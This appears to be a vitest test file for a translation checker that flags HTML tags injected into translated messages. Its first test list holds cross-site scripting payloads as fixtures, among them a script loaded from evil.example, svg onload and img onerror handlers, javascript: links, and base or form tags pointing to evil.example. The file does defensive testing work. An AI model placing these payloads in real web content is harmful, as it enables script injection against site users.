import { describe, expect, it } from 'vitest'
import { faultCheck, textCheck } from '../../src/checks/index.ts'
import { itAtLength } from '../helpers/laws.ts'

const reasonOf = (source: string, text: string) => faultCheck(source, { format: 'json' })(text)?.reason

describe('a tag that a browser reads in a message and nothing closes', () => {
  it.each([
    ['<script src=//evil.example/x.js>Hallo'],
    ['<svg onload=alert(1)>Hallo'],
    ['<svg/onload=alert(1)>Hallo'],
    ['<img/src=x\nonerror=alert(1)>Hallo'],
    ['Hallo <svg/onload=alert(1)//'],
    ['<details open ontoggle=alert(1)>Hallo'],
    ['<DIV STYLE="position:fixed">Hallo'],
    ['<iframe srcdoc="x">Hallo'],
    ['<a href="javascript:alert(1)">Hallo'],
    ['<a\fhref=javascript:alert(1)>Hallo'],
    ['<a title="a>b" onclick=alert(1)>Hallo'],
    ['<a"b onclick=x>Hallo</a>'],
    ["<a b'c onclick=x>Hallo"],
    ['<math><mi xlink:href="javascript:alert(1)">Hallo'],
    ['<base href=//evil.example>Hallo'],
    ['<form action=//evil.example>Hallo'],
    ['<script>Hallo'],
    ['<STYLE>Hallo'],
    ['<plaintext>Hallo'],
    ['<!--Hallo'],
    ['<![CDATA[Hallo'],
    ['<?php Hallo'],
    ['</div>Hallo'],
    ['Hallo </script'],
    ['Hallo <b'],
    ['{count, plural, one {<svg onload=x>#} other {#}}'],
  ])('is held where the source text has none: %s', text => {
    expect(reasonOf('Hello', text)).toBeDefined()
    expect(
      reasonOf('{n, plural, one {# day} other {# days}}', `{n, plural, one {${text}} other {#}}`),
    ).toBeDefined()
  })

  it.each([
    ['cp <source> <target>', 'cp <Quelle> <Ziel>'],
    ['cp <source> <target>', 'cp <target> <source>'],
    ['<a href="/x" onclick="go()">Part', '<a href="/de/x" onclick="go()">Teil'],
    ['a < b', 'b > a, a < b'],
    ['<script> is forbidden', '<script> und noch einmal <script> ist verboten'],
    ['Press <Ctrl+C>', '<Strg+C> drücken'],
    ['Write to <me@example.com>', 'An <me@example.com>'],
    ['end </b> of it', 'Ende </b> davon'],
    ['I <3 you', '<3 dich'],
    ['x <b', 'y <c'],
    ['{n, plural, other {<br onclick=x>}}', '{n, plural, one {<br onclick=x>} other {<br onclick=x>}}'],
  ])('is one of the source text, or none: %s → %s', (source, text) => {
    expect(textCheck(source, { format: 'json' })(text)?.severity ?? 'warning').toBe('warning')
  })

  itAtLength('is found in a time that grows with the text', () => {
    for (const part of ['<!', '<a ', '<a x=" ', "<a '", '</a/', '<a = ', '<'])
      reasonOf('Hello', part.repeat(100_000))
  })
})
